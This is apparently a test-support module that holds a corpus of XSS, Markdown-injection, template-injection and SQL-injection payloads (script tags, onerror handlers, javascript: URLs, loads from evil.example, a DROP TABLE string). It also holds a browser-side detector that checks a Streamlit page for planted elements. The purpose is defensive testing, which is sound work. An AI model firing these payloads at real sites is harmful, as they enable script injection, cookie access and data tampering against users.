"""The XSS and Markdown-injection corpus of tests/trust/test_xss_browser.py, and the look for
what it could plant in a page (a module of its own: tests/trust/plain_page.py, a Streamlit
script, imports it too)."""

from __future__ import annotations

EVIL = "evil.example"
TOKEN = "XSSTOK"  # marks what a directive would style: a coloured span, an icon, a formula

# --- the corpus ---------------------------------------------------------------------------

# The HTML that Plotly itself reads in a chart's texts (a link, a style that fetches).
CHART_LINK = '<a href="https://evil.example/">lien</a>'
CHART_STYLE = "<span style=\"background:url(https://evil.example/x.png)\">fond</span>"

_ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    '"><img src=x onerror=alert(document.cookie)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>clic</a>",
    CHART_LINK,
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">fond</div>",
    CHART_STYLE,
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>ok</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "![](https://evil.example/x.png)",
    "![](/auth/forget)",
    "![alt](https://evil.example/x.png \"titre\")",
    "![ref][r]\n\n[r]: https://evil.example/x.png",
    "[lien](javascript:alert(1))",
    "[lien](https://evil.example/)",
    "<https://evil.example/>",
    "https://evil.example/x.png",
    "[![](https://evil.example/x.png)](https://evil.example/)",
    f":red[{TOKEN} rouge]",
    f":blue-background[{TOKEN} fond]",
    f":rainbow[{TOKEN}]",
    ":material/skull:",
    ":material/bug_report: bogue",
    f"${TOKEN}$",
    f"$$\\frac{{{TOKEN}}}{{2}}$$",
    "$\\href{javascript:alert(1)}{x}$",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "``<img src=x onerror=alert(1)>``",
    "```html\n<script>alert(1)</script>\n```",
    "\\<img src=x onerror=alert(1)\\>",
    "**gras** _penché_ ~~barré~~",
    "# Titre injecté\n---",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "\u202eevil.example/gpj.exe\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069 isolé",
    "nul\x00octet et \u200b espace nulle",
    "😀 émoji <img src=x onerror=alert(1)> 中文",
    "' OR 1=1 -- \"; DROP TABLE structure; --",
    "</textarea><script>alert(1)</script>",
]
LONG = "long " + "<img src=x onerror=alert(1)> ![](https://evil.example/x.png) " * 200


def corpus() -> list[str]:
    """The payloads, each also tried in the middle of ordinary words (where Markdown reads
    inline syntax), and one very long text."""
    inline = [f"Texte {attack} fin" for attack in _ATTACKS[::3]]
    return [*_ATTACKS, *inline, LONG]


PAYLOADS = corpus()


# --- the look ----------------------------------------------------------------------------

# Anything the corpus could have planted. Streamlit's own page has no image, frame, object,
# inline handler, formula or material icon in its main area or sidebar of this app: any found is
# the corpus's.
PLANTED = r"""
(token) => {
  const found = [];
  const say = (what, el) => found.push(what + ": " + el.outerHTML.slice(0, 160));
  const app = document.querySelector('[data-testid="stApp"]') || document.body;
  for (const el of app.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      const value = el.getAttribute(attr) || '';
      if (/^on/i.test(attr)) say('event handler ' + attr, el);
      if (/^(href|src|action|data|srcdoc|formaction|xlink:href)$/i.test(attr)
          && !value.startsWith('#')  // a heading's own anchor
          && /evil|javascript:|auth\/forget/i.test(value)) say('planted ' + attr, el);
      if (attr === 'style' && /evil|url\(\s*["']?(https?:|\/\/)/i.test(value))
        say('planted style', el);
    }
  }
  for (const el of app.querySelectorAll(
      'script, iframe, object, embed, base, meta, link, form, video, audio, math'))
    say('planted <' + el.tagName.toLowerCase() + '>', el);
  for (const img of app.querySelectorAll('img')) {
    const src = img.getAttribute('src') || '';
    if (!src.startsWith('/auth/handoff') && !src.startsWith('data:')) say('image', img);
  }
  for (const el of app.querySelectorAll('.katex, .katex-display, mjx-container'))
    say('formula', el);
  for (const el of app.querySelectorAll('span, i'))  // an icon's element holds its name only
    if (/^(skull|bug_report)$/.test(el.textContent.trim())) say('icon', el);
  const walker = document.createTreeWalker(app, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode;
    if (!node.textContent.includes(token)) continue;
    const host = node.parentElement;
    const style = getComputedStyle(host);
    const rgb = (style.color.match(/\d+/g) || []).map(Number);
    const bg = style.backgroundColor;
    if (host.closest('.katex')) continue;  // reported above
    if ((rgb.length >= 3 && rgb[0] > 180 && rgb[1] < 120 && rgb[2] < 120)
        || (rgb.length >= 3 && rgb[2] > 180 && rgb[0] < 120)
        || (bg && bg !== 'rgba(0, 0, 0, 0)' && bg !== 'transparent' && host.tagName === 'SPAN'
            && !host.closest('[data-baseweb], [role="option"], [role="tab"]')))
      say('coloured text', host);
  }
  for (const el of app.querySelectorAll('[data-testid="stMarkdownContainer"] h1, '
      + '[data-testid="stMarkdownContainer"] h2, [data-testid="stMarkdownContainer"] hr, '
      + '[data-testid="stMarkdownContainer"] table, '
      + '[data-testid="stMarkdownContainer"] a:not([href^="#"])'))
    if (/Titre injecté|evil|onerror|lien|clic/.test(el.outerHTML)) say('markdown block', el);
  return found;
}
"""
